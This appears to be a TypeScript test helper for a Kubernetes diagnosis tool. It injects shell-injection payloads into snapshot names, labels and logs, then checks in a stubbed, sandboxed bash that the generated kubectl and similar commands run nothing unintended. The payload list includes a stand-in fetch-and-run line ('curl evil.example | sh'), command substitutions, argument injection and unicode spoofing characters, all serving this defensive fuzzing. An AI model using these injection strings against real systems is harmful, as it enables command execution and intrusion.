import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Command } from '#lib/kubernetes/commands.ts';
import { clusterOf } from '../cluster/index.ts';
import type { Scene } from '../rule.ts';
import { RULES } from '../rules/index.ts';
import { signsOf } from '../symptoms/index.ts';
import type { Snapshot, Window } from '../types.ts';
import { random } from './mutations.ts';

/** What an attacker puts into or beside a name: each is harmless text to Kubernetes' logs, and none is part of a name. */
const PAYLOADS = [
  '; curl evil.example | sh',
  '$(id)',
  '`id`',
  "' ; id ; '",
  '" && id "',
  '\nid\n',
  ' --kubeconfig=/tmp/x',
  ' | tee /tmp/x',
  '> pwned',
  '&',
  '\\',
  '\u001b]0;title\u0007',
  '\u202egnp',
  'ａ',
  'а',
  '\0',
  '\ud83d',
  ' ',
  '{a,b}',
  '*',
  '~',
  '!!',
];

/** All commands of all candidates, the ranked ones and the others. */
export function commandsOf(snapshot: Snapshot, window: Window): Command[] {
  const cluster = clusterOf(snapshot, window);
  const signs = signsOf(cluster);
  const byWorkload = new Map(signs.flatMap((sign) => (sign.workload ? [[sign.workload.key, sign] as const] : [])));
  const scene: Scene = { cluster, signs, signOf: (workload) => byWorkload.get(workload.key) };
  return RULES.flatMap((rule) => rule(scene).flatMap(({ remedies }) => remedies.flatMap(({ command }) => command ?? [])));
}

/** A text inside the JSON of a snapshot. */
const JSON_TEXT = /"(?:[^"\\]|\\.)*"/g;

/**
 * Copies of a snapshot, each with one word of it replaced everywhere by hostile text: in names, labels, annotations, log lines
 * and events alike, so that what belongs together still does and the rules still see the fault. The words are those that its
 * commands hold, and those in quotes in its texts. `seed` chooses which words, texts and places.
 */
export function hostileCopies(snapshot: Snapshot, window: Window, count: number, seed: number): Snapshot[] {
  const json = JSON.stringify(snapshot);
  const inCommands = commandsOf(snapshot, window).flatMap(({ pipeline }) => pipeline.flat().flatMap((word) => word.split(/[/=,:]/)));
  const quoted = [...json.matchAll(/\\"([^"\\\s]{2,80})\\"|user ([\w:-]+)/gi)].flatMap(([, word, user]) => word ?? user ?? []);
  const words = [...new Set([...inCommands, ...quoted])].filter((word) => /^[\w.:-]{2,}$/.test(word) && json.includes(word)).sort();
  const next = random(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)]!;
  return Array.from({ length: words.length === 0 ? 0 : count }, () => {
    const word = pick(words);
    const payload = pick(PAYLOADS);
    const hostile = pick([`${word}${payload}`, `${payload}${word}`, `-${word}`, `--${payload.trim()}`]);
    const escaped = JSON.stringify(hostile).slice(1, -1);
    return JSON.parse(json.replace(JSON_TEXT, (text) => text.replaceAll(word, () => escaped))) as Snapshot;
  });
}

/** What a word of a command may be: the text of the rules, and names of Kubernetes. */
const WORDS = /^[A-Za-z0-9._:=,/@-]+$|^Allocated resources$|^\{"(spec|metadata)":\{"(suspend":false|finalizers":null)\}\}$/;

/** The lines of commands that do anything but run the intended programs with the intended words, which hold nothing hostile. */
export function harmIn(commands: readonly Command[]): string[] {
  const byLine = new Map(commands.map((command) => [command.line, command]));
  const read = readByShell([...byLine.keys()]);
  return [...byLine.values()].flatMap(({ line, pipeline }, index) => {
    const isIntended = JSON.stringify(read[index]) === JSON.stringify(pipeline.toSorted());
    return isIntended && pipeline.flat().every((word) => WORDS.test(word)) ? [] : [line];
  });
}

/** Programs that commands of a diagnosis name. Each is a function that says what it was called with, and does nothing. */
const PROGRAMS = ['kubectl', 'grep', 'systemctl', 'journalctl', 'crictl', 'df', 'openssl'];

const SCRIPT = `
exec 3>&1 1>&2
record() { printf '%s\\0' "$#" "$@" >&3; }
for program in ${PROGRAMS.join(' ')}; do eval "$program() { record $program \\"\\$@\\"; }"; done
command_not_found_handle() { record 'no such program:' "$@"; }
while IFS= read -r -d '' line; do
  record 'begin'
  ( eval "$line" ) </dev/null
done
`;

/**
 * What bash makes of lines: for each the programs that it runs, with their arguments, in order of name. Throws when a line does
 * anything else: prints, writes a file, or is none that a shell takes.
 */
function readByShell(lines: readonly string[]): string[][][] {
  const folder = mkdtempSync(join(tmpdir(), 'commands-'));
  try {
    const result = execFileSync('/bin/bash', ['-c', SCRIPT], {
      cwd: folder,
      input: lines.map((line) => `${line}\0`).join(''),
      encoding: 'utf8',
      maxBuffer: 1 << 30,
      env: { PATH: '/nonexistent', NODE_ENV: 'test' },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    const files = readdirSync(folder);
    if (files.length > 0) throw new Error(`commands wrote the files ${files.join(', ')}`);
    return callsOf(result);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

function callsOf(output: string): string[][][] {
  const parts = output.split('\0');
  const lines: string[][][] = [];
  for (let at = 0; at < parts.length - 1; at += 1 + Number(parts[at])) {
    const call = parts.slice(at + 1, at + 1 + Number(parts[at]));
    if (call[0] === 'begin') lines.push([]);
    else lines.at(-1)!.push(call);
  }
  return lines.map((calls) => calls.toSorted());
}
